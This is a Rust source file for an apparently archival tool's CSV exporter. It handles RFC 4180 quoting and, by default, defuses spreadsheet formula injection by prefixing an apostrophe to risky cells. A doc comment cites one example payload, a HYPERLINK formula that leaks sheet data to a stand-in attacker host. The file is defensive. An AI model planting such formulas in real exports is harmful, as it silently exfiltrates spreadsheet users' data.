//! Stored articles → CSV (RFC 4180): a header row with the JSONL field names
//! ([`super::FIELDS`]), then one record per article. Every record ends with
//! CRLF; a field holding a comma, a double quote, CR or LF is quoted, its
//! quotes doubled (article text spans lines, so most `text` fields are).
//! Values are the JSONL ones: numbers in decimal, absent values empty.
//!
//! Formula injection (OWASP's "CSV injection"): a spreadsheet runs a cell
//! that starts with `=`, `+`, `-` or `@` (or tab, CR) as a formula, so a
//! page titled `=HYPERLINK("http://evil.example/?leak="&A1,"Click")` became
//! a live link leaking the sheet. By default ([`Formulas::Defused`]) such a
//! cell gets a leading `'`, which spreadsheets show as text and do not
//! display; [`Formulas::Kept`] (`export --format csv --csv-formulas`) writes
//! cells as stored.

use std::io::Write;

use super::FIELDS;
use crate::store::StoredArticle;

/// What becomes of a cell a spreadsheet would run as a formula.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Formulas {
    /// Prefixed with `'`: shown as text.
    #[default]
    Defused,
    /// Written as stored.
    Kept,
}

/// `cell`, with a leading `'` when a spreadsheet would read it as a formula.
pub fn defuse(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// The article's fields in [`FIELDS`] order, through its JSON form so the two
/// formats cannot drift apart.
pub(super) fn row_of(a: &StoredArticle, formulas: Formulas) -> std::io::Result<Vec<String>> {
    let value = serde_json::to_value(a).map_err(std::io::Error::from)?;
    Ok(FIELDS
        .iter()
        .map(|f| match value.get(f) {
            None | Some(serde_json::Value::Null) => String::new(),
            Some(serde_json::Value::String(s)) if formulas == Formulas::Defused => {
                defuse(s.clone())
            }
            Some(serde_json::Value::String(s)) => s.clone(),
            Some(other) => other.to_string(),
        })
        .collect())
}

/// One CSV record, CRLF-terminated.
pub fn write_record<'a>(
    out: &mut dyn Write,
    fields: impl Iterator<Item = &'a str>,
) -> std::io::Result<()> {
    for (i, field) in fields.enumerate() {
        if i > 0 {
            out.write_all(b",")?;
        }
        write_field(out, field)?;
    }
    out.write_all(b"\r\n")
}

fn write_field(out: &mut dyn Write, field: &str) -> std::io::Result<()> {
    if !field.contains([',', '"', '\r', '\n']) {
        return out.write_all(field.as_bytes());
    }
    out.write_all(b"\"")?;
    for (i, part) in field.split('"').enumerate() {
        if i > 0 {
            out.write_all(b"\"\"")?;
        }
        out.write_all(part.as_bytes())?;
    }
    out.write_all(b"\"")
}
